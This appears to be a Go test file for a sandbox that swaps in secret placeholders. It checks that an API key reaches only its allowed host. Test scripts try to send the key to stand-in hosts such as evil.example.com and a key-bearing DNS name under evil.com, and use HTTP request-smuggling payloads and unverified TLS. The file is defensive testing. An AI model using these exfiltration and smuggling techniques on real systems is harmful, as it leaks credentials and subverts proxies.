package eryx_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/eryx-build/eryx"
	"github.com/eryx-build/eryx/internal/testcert"
)

// heard is a request as a server got it.
type heard struct {
	host, path, query, authorization, other, body, encodings string
}

// keeper is a server that keeps what it is sent, and says it back.
type keeper struct {
	port string
	mu   sync.Mutex
	list []heard
}

// requests gives what was heard, and forgets it.
func (k *keeper) requests() []heard {
	k.mu.Lock()
	defer k.mu.Unlock()
	list := k.list
	k.list = nil
	return list
}

func (k *keeper) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(r.Body)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	k.mu.Lock()
	k.list = append(k.list, heard{
		r.Host, r.URL.Path, r.URL.RawQuery, r.Header.Get("Authorization"), r.Header.Get("X-Other"), string(body), r.Header.Get("Accept-Encoding"),
	})
	k.mu.Unlock()
	said := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
	switch r.URL.Path {
	case "/header-echo":
		w.Header().Set("X-Echo", "it is "+said)
	case "/body-echo":
		fmt.Fprintf(w, "it is %s and %s", said, body)
	case "/chunk-boundaries":
		for i := range len(said) {
			_, _ = w.Write([]byte{said[i]})
			_ = http.NewResponseController(w).Flush()
		}
	case "/base64":
		_, _ = io.WriteString(w, base64.StdEncoding.EncodeToString([]byte("user:"+said+":")))
	case "/json":
		_ = json.NewEncoder(w).Encode(map[string]string{"said": said})
	case "/query":
		_, _ = io.WriteString(w, url.QueryEscape(said))
	case "/hex":
		_, _ = io.WriteString(w, hex.EncodeToString([]byte(said)))
	case "/redirect":
		http.Redirect(w, r, "/landed?key="+url.QueryEscape(said), http.StatusFound)
	}
}

// keeping starts a server, over TLS if it has a certificate.
func keeping(t *testing.T, leaf *testcert.Leaf) *keeper {
	t.Helper()
	k := &keeper{}
	server := httptest.NewUnstartedServer(k)
	if leaf == nil {
		server.Start()
	} else {
		server.TLS = &tls.Config{Certificates: []tls.Certificate{leaf.TLS()}}
		server.StartTLS()
	}
	t.Cleanup(server.Close)
	k.port = server.URL[strings.LastIndex(server.URL, ":")+1:]
	return k
}

// secretly is a configuration with a secret for api.example.com, which is on this
// machine like evil.example.com.
func secretly(roots *testcert.Authority) *eryx.SandboxConfig {
	config := withSecret("api.example.com")
	config.Network = &eryx.Network{
		Hosts:    []string{"api.example.com:*", "evil.example.com:*"},
		Networks: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")},
		Resolve: func(context.Context, string) ([]netip.Addr, error) {
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		},
	}
	if roots != nil {
		config.Network.RootCAs = roots.Pool()
	}
	return config
}

// secretRun executes a script with the ports of servers as PORT0, PORT1 ….
func secretRun(t *testing.T, config *eryx.SandboxConfig, source string, servers ...string) string {
	t.Helper()
	config.Env = map[string]string{}
	for i, port := range servers {
		config.Env[fmt.Sprintf("PORT%d", i)] = port
	}
	return string(mustExecute(t, `
import http.client, json, os, socket, ssl, urllib.request
key = os.environ["API_KEY"]
bearer = {"Authorization": "Bearer " + key}
def ports(): return [int(os.environ[f"PORT{i}"]) for i in range(8) if f"PORT{i}" in os.environ]
`+source, config).Stdout)
}

// TestSecretReachesItsHost sends the value in every part of a request.
func TestSecretReachesItsHost(t *testing.T) {
	authority := testcert.NewAuthority(t, "authority")
	server := keeping(t, authority.Issue(t, nil, "api.example.com"))
	secretRun(t, secretly(authority), `
import urllib.parse
base = f"https://api.example.com:{ports()[0]}"
def ask(path, data=None, **headers):
    request = urllib.request.Request(base + path, data=data, headers={k.replace("_", "-"): v for k, v in headers.items()})
    urllib.request.urlopen(request, timeout=20).read()
ask("/header", **bearer, Accept_Encoding="gzip")
ask("/query?" + urllib.parse.urlencode({"key": key}))
ask("/json", json.dumps({"key": key}).encode(), Content_Type="application/json")
ask("/form", urllib.parse.urlencode({"key": key}).encode())
ask("/large", b"x" * 100_000 + key.encode(), Content_Type="text/plain")
def chunks():
    yield b"start " + key[:20].encode()
    yield key[20:].encode() + b" end"
ask("/chunked", chunks(), Content_Type="text/plain")
c = http.client.HTTPSConnection("api.example.com", ports()[0], timeout=20)
import base64
for _ in range(2): # over one connection
    c.request("GET", "/basic", headers={"Authorization": "Basic " + base64.b64encode(f"user:{key}".encode()).decode()})
    c.getresponse().read()
`, server.port)
	list := server.requests()
	if len(list) != 8 {
		t.Fatalf("%d requests: %+v", len(list), list)
	}
	form := url.Values{"key": {secretValue}}
	for i, got := range []string{
		list[0].authorization, must(url.ParseQuery(list[1].query)).Get("key"), list[2].body, must(url.ParseQuery(list[3].body)).Get("key"),
		strings.TrimLeft(list[4].body, "x"), list[5].body, list[6].authorization, list[7].authorization,
	} {
		basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+secretValue))
		want := []string{
			"Bearer " + secretValue, form.Get("key"), `{"key": "` + strings.ReplaceAll(secretValue, `"`, `\"`) + `"}`, form.Get("key"),
			secretValue, "start " + secretValue + " end", basic, basic,
		}[i]
		if got != want {
			t.Errorf("%s: %q, want %q", list[i].path, got, want)
		}
	}
	if list[0].encodings != "identity" {
		t.Errorf("a compressed response is asked for: %q", list[0].encodings)
	}
}

// TestSecretReflection has an allowed server say the value back.
func TestSecretReflection(t *testing.T) {
	authority := testcert.NewAuthority(t, "authority")
	server := keeping(t, authority.Issue(t, nil, "api.example.com"))
	for _, attack := range []string{"/header-echo", "/body-echo", "/chunk-boundaries", "/base64", "/json", "/query", "/hex", "/redirect"} {
		t.Run(attack[1:], func(t *testing.T) {
			got := secretRun(t, secretly(authority), `
import base64, urllib.parse
c = http.client.HTTPSConnection("api.example.com", ports()[0], timeout=20)
c.request("POST", "`+attack+`", body=key, headers=bearer)
r = c.getresponse()
seen = str(r.headers) + r.read().decode()
fragments = ["quoted", "slash", "k3y", "0123456789"]
forms = fragments + [base64.b64encode(f.encode()).decode()[1:-3] for f in fragments if len(f) > 4] + [f.encode().hex() for f in fragments]
print([f for f in forms if f in seen], "*****" in seen, json.dumps(seen))
`, server.port)
			if !strings.HasPrefix(got, "[] True ") {
				t.Errorf("the script has seen %s", got)
			}
			if list := server.requests(); list[0].body != secretValue {
				t.Errorf("the server has not got it: %+v", list)
			}
		})
	}
}

// TestSecretHostHeaderVersusTarget sends requests that are for another host by
// their Host field or target, on a connection to the secret's.
func TestSecretHostHeaderVersusTarget(t *testing.T) {
	authority := testcert.NewAuthority(t, "authority")
	server := keeping(t, authority.Issue(t, nil, "api.example.com", "evil.example.com"))
	secretRun(t, secretly(authority), `
def ask(name, path, host):
    c = http.client.HTTPSConnection(name, ports()[0], timeout=20)
    c.putrequest("GET", path, skip_host=True)
    c.putheader("Host", host)
    c.putheader("Authorization", "Bearer " + key)
    c.endheaders()
    c.getresponse().read()
ask("api.example.com", "/1", "evil.example.com")
ask("api.example.com", "http://evil.example.com/2", "api.example.com")
ask("evil.example.com", "/3", "api.example.com")
ask("evil.example.com", "/4", "evil.example.com")
ask("api.example.com", "/5", "api.example.com")
`, server.port)
	list := server.requests()
	if len(list) != 5 {
		t.Fatalf("%+v", list)
	}
	for i, got := range list {
		if has := strings.Contains(got.authorization, secretValue); has != (i == 4) {
			t.Errorf("%s for %s: the value was sent: %v", got.path, got.host, has)
		}
		if i < 4 && !strings.HasPrefix(got.authorization, "Bearer eryx-secret-API_KEY-") {
			t.Errorf("%s for %s got %q", got.path, got.host, got.authorization)
		}
	}
}

// TestSecretKeepAliveReuse has requests for two hosts on one connection.
func TestSecretKeepAliveReuse(t *testing.T) {
	authority := testcert.NewAuthority(t, "authority")
	server := keeping(t, authority.Issue(t, nil, "api.example.com", "evil.example.com"))
	secretRun(t, secretly(authority), `
c = http.client.HTTPSConnection("api.example.com", ports()[0], timeout=20)
for host in "evil.example.com", "api.example.com", "evil.example.com":
    c.request("POST", "/" + host, body=key, headers=bearer | {"Host": host})
    c.getresponse().read()
`, server.port)
	list := server.requests()
	for i, want := range []bool{false, true, false} {
		if got := list[i].body == secretValue && list[i].authorization == "Bearer "+secretValue; got != want {
			t.Errorf("request %d: the value was sent: %v", i, got)
		}
		if !want && strings.Contains(list[i].body+list[i].authorization, "slash") {
			t.Errorf("request %d: %+v", i, list[i])
		}
	}
}

// TestSecretGuestsOwnAuthority has somebody else pretend to be the host, by a
// certificate that the script accepts and the host's roots do not.
func TestSecretGuestsOwnAuthority(t *testing.T) {
	authority, own := testcert.NewAuthority(t, "authority"), testcert.NewAuthority(t, "authority")
	server := keeping(t, own.Issue(t, nil, "api.example.com"))
	config := secretly(authority)
	config.Args = []string{own.PEM()}
	secretRun(t, config, `
import sys
trusting = ssl.create_default_context(cadata=sys.argv[0])
careless = ssl._create_unverified_context()
for path, context in ("/trusting", trusting), ("/careless", careless):
    c = http.client.HTTPSConnection("api.example.com", ports()[0], timeout=20, context=context)
    c.request("POST", path, body=key, headers=bearer)
    c.getresponse().read()
`, server.port)
	list := server.requests()
	if len(list) != 2 {
		t.Fatalf("%+v", list)
	}
	for _, got := range list {
		if strings.Contains(got.body+got.authorization, "slash") || !strings.HasPrefix(got.body, "eryx-secret-API_KEY-") {
			t.Errorf("%+v", got)
		}
	}
	// A name that is not verified at all, on a server that the host trusts.
	server = keeping(t, authority.Issue(t, nil, "api.example.com"))
	secretRun(t, secretly(authority), `
context = ssl._create_unverified_context()
raw = socket.create_connection(("api.example.com", ports()[0]), timeout=20)
with context.wrap_socket(raw) as s:
    s.sendall(f"GET /nameless HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer {key}\r\nConnection: close\r\n\r\n".encode())
    while s.recv(1000): pass
raw = socket.create_connection(("api.example.com", ports()[0]), timeout=20)
with context.wrap_socket(raw, server_hostname="api.example.com") as s:
    s.sendall(f"GET /named HTTP/1.1\r\nHost: api.example.com\r\nAuthorization: Bearer {key}\r\nConnection: close\r\n\r\n".encode())
    while s.recv(1000): pass
`, server.port)
	for _, got := range server.requests() {
		if has := strings.Contains(got.authorization, secretValue); has != (got.path == "/named") {
			t.Errorf("%+v", got)
		}
	}
}

// TestSecretOverPlainHTTP sends the value in the clear only where it may.
func TestSecretOverPlainHTTP(t *testing.T) {
	server := keeping(t, nil)
	const source = `
c = http.client.HTTPConnection("api.example.com", ports()[0], timeout=20)
for path in "/1", "/chunk-boundaries":
    c.request("POST", path, body=key, headers=bearer)
    seen = c.getresponse().read().decode()
print(len(seen), "slash" in seen, seen == key)
`
	if got := secretRun(t, secretly(nil), source, server.port); got != fmt.Sprintf("%d False True\n", placeholderSize) {
		t.Errorf("without leave: %s", got)
	}
	for _, got := range server.requests() {
		if strings.Contains(got.body+got.authorization, "slash") || !strings.HasPrefix(got.body, "eryx-secret-API_KEY-") {
			t.Errorf("without leave: %+v", got)
		}
	}
	config := secretly(nil)
	config.Secrets[0].Cleartext = true
	if got := secretRun(t, config, source, server.port); got != fmt.Sprintf("%d False False\n", len(secretValue)) {
		t.Errorf("with leave: %s", got)
	}
	for _, got := range server.requests() {
		if got.body != secretValue || got.authorization != "Bearer "+secretValue {
			t.Errorf("with leave: %+v", got)
		}
	}
	// Not to others, in the clear or not.
	config = secretly(nil)
	config.Secrets[0].Cleartext = true
	secretRun(t, config, strings.Replace(source, "api.example.com", "evil.example.com", 1), server.port)
	for _, got := range server.requests() {
		if strings.Contains(got.body+got.authorization, "slash") {
			t.Errorf("another host: %+v", got)
		}
	}
}

// TestSecretSmuggling sends what two servers might read as different requests;
// what reaches the server has no value.
func TestSecretSmuggling(t *testing.T) {
	var mu sync.Mutex
	var raw bytes.Buffer
	port := serve(t, func(conn *net.TCPConn) {
		data, _ := io.ReadAll(conn)
		mu.Lock()
		defer mu.Unlock()
		raw.Write(data)
	})
	config := secretly(nil)
	config.Secrets[0].Cleartext = true
	secretRun(t, config, `
host = "Host: api.example.com\r\n"
for head in [
    "GET / HTTP/1.1\r\n" + host + "Content-Length: 3\r\nContent-Length: 4\r\nX: KEY\r\n\r\nabcd",
    "POST / HTTP/1.1\r\n" + host + "Content-Length: 3\r\nTransfer-Encoding: chunked\r\nX: KEY\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
    "GET / HTTP/1.1\r\n" + host + "X: a\r\n KEY\r\n\r\n",
    "GET / HTTP/1.1\n" + host + "X: KEY\n\n",
    "GET / HTTP/1.1\r\n" + host + "X: KEY\nHost: evil.example.com\r\n\r\n",
    "GET / HTTP/1.1\r\n" + host + "X: KEY\0\r\n\r\n",
    "GET / HTTP/1.1\r\n" + host + host + "X: KEY\r\n\r\n",
    "GET / HTTP/1.1\r\n" + host + "Transfer-Encoding: xchunked\r\nX: KEY\r\n\r\n",
    "GET KEY HTTP/1.1\r\n" + host + "\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nKEY",
    "KEY\r\n",
    "\r\nGET /KEY HTTP/1.1\r\n" + host + "\r\n",
]:
    with socket.create_connection(("api.example.com", ports()[0]), timeout=20) as s:
        s.sendall(head.replace("KEY", key).encode())
        s.shutdown(socket.SHUT_WR)
        while s.recv(100): pass
`, port)
	mu.Lock()
	defer mu.Unlock()
	if text := raw.String(); strings.Contains(text, "slash") || strings.Count(text, "eryx-secret-API_KEY-") != 12 {
		t.Errorf("%d placeholders in %q", strings.Count(text, "eryx-secret-API_KEY-"), text)
	}
}

// TestSecretAndOtherProtocols has what is no HTTP pass at once, in either
// direction.
func TestSecretAndOtherProtocols(t *testing.T) {
	port := serve(t, echoing)
	got := secretRun(t, secretly(nil), `
import time
began = time.monotonic()
with socket.create_connection(("api.example.com", ports()[0]), timeout=20) as s:
    for text in b"\0\1\2binary k3", b"EHLO me\r\n", b"k3y", b"eryx-secret-", os.urandom(200_000):
        s.sendall(text)
        back = b""
        while len(back) < len(text): back += s.recv(65536)
        assert back == text, (text[:20], back[:20])
    s.sendall(key.encode())
    s.shutdown(socket.SHUT_WR)
    back = b""
    while part := s.recv(65536): back += part
    print(back.decode() == key, time.monotonic() - began < 10)
`, port)
	if got != "True True\n" {
		t.Errorf("%s", got)
	}
}

// TestSecretInEgress looks up a name with the placeholder in it.
func TestSecretInEgress(t *testing.T) {
	var mu sync.Mutex
	var told []string
	config := secretly(nil)
	config.Network.OnEgress = func(e eryx.Egress) {
		mu.Lock()
		defer mu.Unlock()
		told = append(told, fmt.Sprintf("%+v", e))
	}
	secretRun(t, config, `
try: socket.getaddrinfo(key + ".evil.com", 80)
except OSError: print("refused")
`)
	mu.Lock()
	defer mu.Unlock()
	if len(told) == 0 {
		t.Fatal("nothing was told")
	}
	for _, text := range told {
		assertHidden(t, text)
	}
}

// TestSecretIsNotInMemory has a session use its secret, and looks for the value
// in all of the interpreter's memory.
func TestSecretIsNotInMemory(t *testing.T) {
	authority := testcert.NewAuthority(t, "authority")
	server := keeping(t, authority.Issue(t, nil, "api.example.com"))
	config := secretly(authority)
	config.Env = map[string]string{"PORT": server.port}
	l := acquire(t, newPool(t, nil), config)
	leased(t, l, `
import http.client, os
key = os.environ["API_KEY"]
for path in "/header-echo", "/body-echo", "/chunk-boundaries", "/json":
    c = http.client.HTTPSConnection("api.example.com", int(os.environ["PORT"]), timeout=20)
    c.request("POST", path, body=key, headers={"Authorization": "Bearer " + key})
    c.getresponse().read()
`)
	if list := server.requests(); len(list) != 4 || list[3].body != secretValue {
		t.Fatalf("%+v", list)
	}
	memory := eryx.MemoryOf(l)
	for _, part := range []string{secretValue, secretValue[:12], secretValue[8:]} {
		if bytes.Contains(memory, []byte(part)) {
			t.Errorf("%q is in the memory", part)
		}
	}
	data, err := l.Snapshot(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(data, []byte(secretValue)) {
		t.Error("the value is in the snapshot")
	}
}
